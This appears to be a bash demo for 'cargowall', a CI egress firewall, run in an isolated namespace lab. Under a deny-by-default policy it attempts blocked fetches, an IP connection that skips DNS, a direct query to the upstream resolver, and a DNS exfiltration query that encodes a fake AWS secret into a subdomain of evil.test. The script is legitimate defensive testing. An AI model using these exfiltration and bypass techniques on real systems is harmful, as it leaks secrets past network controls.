#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# Demonstration, in the namespace lab of tests/lab/lab.sh: cargowall in enforce mode with a
# small embedded policy (allow allowed.test on tcp/80, deny everything else), then a few things
# a CI job might try, each with what happened; then the audit log, the summary, and stop.
# Nothing touches this machine's own interfaces or cgroups. Builds first if needed.
# Exit 0 only when every attempt ended as the policy says it should.
set -euo pipefail
REPO=$(cd "$(dirname "$0")/.." && pwd)
# shellcheck source-path=SCRIPTDIR source=../tests/lab/lab.sh
. "$REPO/tests/lab/lab.sh"
lab_require_root

# A fresh machine: install the packages (skip with CW_SKIP_DEPS=1), then build.
if [ "${CW_SKIP_DEPS:-0}" != 1 ]; then
	echo "== Installing the Debian packages the build and the lab need"
	"$REPO/scripts/install-deps.sh"
fi
echo "== Building in $CW_BUILD"
cmake -S "$REPO" -B "$CW_BUILD" -DCW_WERROR=ON >/dev/null
cmake --build "$CW_BUILD" -j"$(nproc)" >/dev/null
[ -x "$CW_BIN" ] || lab_die "no launcher at $CW_BIN after the build"

trap lab_teardown EXIT
trap 'exit 130' INT TERM

BAD=0
say() { printf '%s\n' "$*"; }
outcome() { # OK|UNEXPECTED TEXT
	if [ "$1" = OK ]; then
		say "    => $2"
	else
		say "    => UNEXPECTED: $2"
		BAD=$((BAD + 1))
	fi
}
upstream_saw() { grep -qi -- "$1" "$LAB_DNSLOG"; }

say "== Setting up the lab: a \"runner\" and an \"internet\" network namespace"
lab_setup
say "   internet: DNS server $LAB_UPSTREAM (dnsmasq, query log on), allowed.test = $LAB_ALLOWED_IP,"
say "             evil.test = $LAB_EVIL_IP, a web server on each"
say "   runner:   uplink $LAB_IF, resolver 127.0.0.1 (cargowall's dnsd), the job in cgroup ${LAB_CG##*/}"
say

cat >"$LAB/policy.json" <<'JSON'
{
  "defaultAction": "deny",
  "rules": [
    { "type": "hostname", "value": "allowed.test",
      "ports": [ { "port": 80, "protocol": "tcp" } ], "action": "allow" }
  ],
  "searchDomains": []
}
JSON
say "== Policy (enforce mode)"
sed 's/^/   /' "$LAB/policy.json"
say
say "== cargowall start (--allow-private-answers: the lab's servers have private addresses,"
say "   which cargowall otherwise never learns from DNS answers)"
if ! lab_cw start --config "$LAB/policy.json" --mode enforce --interface "$LAB_IF" \
	--cgroup "$LAB_CG" --dns-upstream "$LAB_UPSTREAM" --audit-log "$LAB_AUDIT" \
	--state-dir "$LAB_STATE" --bpffs "$LAB_PINS" --allow-private-answers; then
	say "cargowall start failed; its output:"
	sed 's/^/   | /' "$LAB_CWLOG"
	exit 1
fi
say "   enforcement is live"
say

say "== What the job tries"

say "[1] Fetch http://allowed.test/ (the policy allows it)"
rc=0
body=$(lab_workload "${LAB_CURL[@]}" http://allowed.test/ 2>"$LAB/d1.err") || rc=$?
if [ "$rc" -eq 0 ] && [ "$body" = allowed ]; then
	outcome OK "ALLOWED: the page says \"$body\""
else
	outcome BAD "curl exit $rc, body '${body:0:60}': $(cat "$LAB/d1.err")"
fi

say "[2] Fetch http://evil.test/ (not in the policy)"
rc=0
body=$(lab_workload "${LAB_CURL[@]}" http://evil.test/ 2>"$LAB/d2.err") || rc=$?
if [ "$rc" -eq 6 ] && ! upstream_saw 'evil\.test'; then
	outcome OK "BLOCKED at DNS: the name does not resolve, and the query never left the runner"
else
	outcome BAD "curl exit $rc (want 6), upstream saw evil.test: $(upstream_saw 'evil\.test' &&
		echo yes || echo no); $(cat "$LAB/d2.err")"
fi

say "[3] Fetch http://$LAB_EVIL_IP/ (evil.test's address, skipping DNS)"
rc=0
body=$(lab_workload_pid "$LAB/d3.pid" "${LAB_CURL[@]}" "http://$LAB_EVIL_IP/" 2>"$LAB/d3.err") ||
	rc=$?
if [ "$rc" -ne 0 ] && [ "$body" != evil ]; then
	outcome OK "BLOCKED at connect (curl pid $(cat "$LAB/d3.pid"), exit $rc: $(cat "$LAB/d3.err"))"
else
	outcome BAD "the connection went through (exit $rc, body '${body:0:60}')"
fi

# A secret smuggled out in a DNS name: a TXT query for <base64 of the secret>.exfil.evil.test.
secret=$(printf 'AWS_SECRET_ACCESS_KEY=hunter2' | base64 | tr -d '=\n' | tr '+/' '-_')
say "[4] DNS exfiltration: TXT query for $secret.exfil.evil.test"
status=$(lab_workload dig +time=2 +tries=1 TXT "$secret.exfil.evil.test" 2>&1 |
	grep -o 'status: [A-Z]*' || echo "no answer")
if ! upstream_saw exfil; then
	outcome OK "BLOCKED at DNS (${status}): the query never reached the upstream server"
else
	outcome BAD "the upstream server received the exfiltration query ($status)"
fi

say "[5] Bypass the local resolver: ask the upstream $LAB_UPSTREAM directly for direct.evil.test"
out=$(lab_workload dig +short +time=2 +tries=1 @"$LAB_UPSTREAM" direct.evil.test A 2>&1 || true)
if ! upstream_saw 'direct\.evil\.test'; then
	outcome OK "BLOCKED: the query never reached the upstream server (dig: ${out//$'\n'/ })"
else
	outcome BAD "the upstream server answered a direct query (dig: ${out//$'\n'/ })"
fi
say

say "== Audit log ($LAB_AUDIT, NDJSON; shown pretty-printed), after a moment for auditd"
lab_audit_wait "$LAB_AUDIT" event_type=dns_blocked query=evil.test || true
lab_audit_wait "$LAB_AUDIT" event_type=connection_blocked dst_ip="$LAB_EVIL_IP" || true
lab_audit_print "$LAB_AUDIT"
if out=$(lab_audit_validate "$LAB_AUDIT"); then
	say "   ($(wc -l <"$LAB_AUDIT") events, every line valid JSON)"
else
	outcome BAD "audit log: $out"
fi
lab_audit_find "$LAB_AUDIT" event_type=dns_blocked query=evil.test ||
	outcome BAD "no dns_blocked event for evil.test in the audit log"
lab_audit_find "$LAB_AUDIT" event_type=connection_blocked dst_ip="$LAB_EVIL_IP" process=curl ||
	outcome BAD "no connection_blocked event for $LAB_EVIL_IP by curl in the audit log"
say

say "== cargowall summary"
rc=0
lab_runner timeout 30 "$CW_BIN" summary --audit-log "$LAB_AUDIT" --format markdown \
	>"$LAB/summary.md" 2>&1 </dev/null || rc=$?
if [ "$rc" -eq 0 ]; then
	sed 's/^/   /' "$LAB/summary.md"
else
	say "   cargowall summary exited with status $rc: $(head -n1 "$LAB/summary.md")"
fi
say

say "== cargowall stop"
if lab_cw stop --state-dir "$LAB_STATE"; then
	say "   stopped: programs detached, pins removed"
else
	outcome BAD "cargowall stop failed"
fi
say

if [ "$BAD" -eq 0 ]; then
	say "Demo finished: allowed.test was reachable; everything else was refused and logged."
else
	say "Demo finished with $BAD unexpected result(s); see the lines marked UNEXPECTED."
	say "cargowall's own output:"
	sed 's/^/   | /' "$LAB_CWLOG"
	exit 1
fi
